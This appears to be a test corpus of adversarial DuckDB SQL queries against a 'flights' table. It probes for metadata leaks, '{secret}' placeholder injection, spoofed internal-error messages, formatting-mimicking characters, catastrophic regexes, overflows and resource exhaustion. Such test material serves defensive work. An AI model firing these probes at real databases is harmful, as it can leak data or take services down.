EXPLAIN ANALYZE SELECT * FROM (SELECT * FROM flights WHERE n::VARCHAR NOT IN ('{U+6771}{U+4EAC}{U+6771}{U+4EAC}{U+6771}{U+4EAC}{U+6771}{U+4EAC}{U+6771}{U+4EAC}{U+6771}{U+4EAC}{U+6771}{U+4EAC}', '{U+5927}{U+962A}{U+5927}{U+962A}{U+5927}{U+962A}{U+5927}{U+962A}{U+5927}{U+962A}{U+5927}{U+962A}')) AS a JOIN flights AS b USING (n)

EXPLAIN ANALYZE SELECT * FROM flights WHERE n::VARCHAR NOT IN ('{U+2502}', '{U+2502}{U+2502}{U+2502}{U+2502}', 'Filename(s)') UNION ALL SELECT * FROM flights

EXPLAIN SELECT * FROM flights WHERE n::VARCHAR <> 'Filename(s): '

DESCRIBE flights

SUMMARIZE flights

SHOW TABLES

SHOW ALL TABLES

DESCRIBE

SHOW

SELECT * FROM flights{U+200B}

SELECT n FROM read_parquet('{cold}/**')

SELECT * FROM information_schema.tables

SELECT * FROM polarway.information_schema.columns

SELECT current_database(), current_schema(), current_user, current_schemas(true), current_catalog

SELECT flights, flights.* FROM flights

SELECT rowid FROM flights

SELECT COLUMNS('.*') FROM flights

SELECT error('{U+0041}')

SELECT error('INTERNAL Error: Attempting to fetch from an unsuccessful or closed streaming query result')

SELECT error('FATAL Error: x')

SELECT CAST('INTERNAL Error: x' AS INTEGER)

SELECT * FROM json_each('{"a": {"b": [1, 2, 3]}}')

SELECT from_json('{"a": 1}', '{"a": "{secret}"}')

SELECT json_transform('{"a": 1}', '{"a": "INTEGER[1000000]"}')

SELECT strftime(now(), '{secret} %Y')

SELECT parse_path('{secret}'), parse_dirname('{secret}')

SELECT list_aggregate([1, 2], 'histogram')

SELECT list_sort([3, 1], '{secret}')

SELECT icu_sort_key('a', '{secret}')

SELECT '2024-01-01'::TIMESTAMPTZ AT TIME ZONE '{secret}'

SELECT 'a' SIMILAR TO repeat('(a*)*', 100)

SELECT regexp_matches(repeat('a', 1000), '((a{1,100}){1,100}){1,100}')

SELECT 1::DECIMAL(38, 38) * 1e38

SELECT 170141183460469231731687303715884105727::HUGEINT * 2

SELECT (-9223372036854775808) // -1, -128::TINYINT // -1

SELECT array_value(1, 2)::INTEGER[100000]

SELECT alias, position FROM (SELECT alias(n) AS alias, position('a' IN 'ba') AS position FROM flights)

SELECT enum_range(NULL::ENUM ('a', 'b'))

SELECT ST_GeomFromWKB('\x00'::BLOB)

SELECT union_value(a := 1)::UNION(a INTEGER, b VARCHAR)

SELECT 'a'::VARIANT, {'a': 1}::VARIANT

SELECT bitstring('0101', 1000000), '0101'::BIT << 1000

SELECT date '290000-01-01' + INTERVAL '1000000 years'

SELECT to_days(2147483647) * 2147483647

SELECT make_timestamp(9223372036854775807)

SELECT time_bucket(INTERVAL '0 days', DATE '2024-01-01')

SELECT list_slice([1, 2, 3], -9223372036854775808, 9223372036854775807, -1)

SELECT substring('abc', -9223372036854775808, 9223372036854775807)

SELECT quantile_cont(n, [0.5, NULL, 2]) FROM flights

SELECT nth_value(n, -1) OVER (), ntile(0) OVER () FROM flights

SELECT lag(n, CAST(n AS INTEGER)) OVER (ORDER BY n), lead(n, -1) OVER (ORDER BY n) FROM flights

SELECT unnest([1], max_depth := NULL)

SELECT '{}'::VARIANT + 1.5
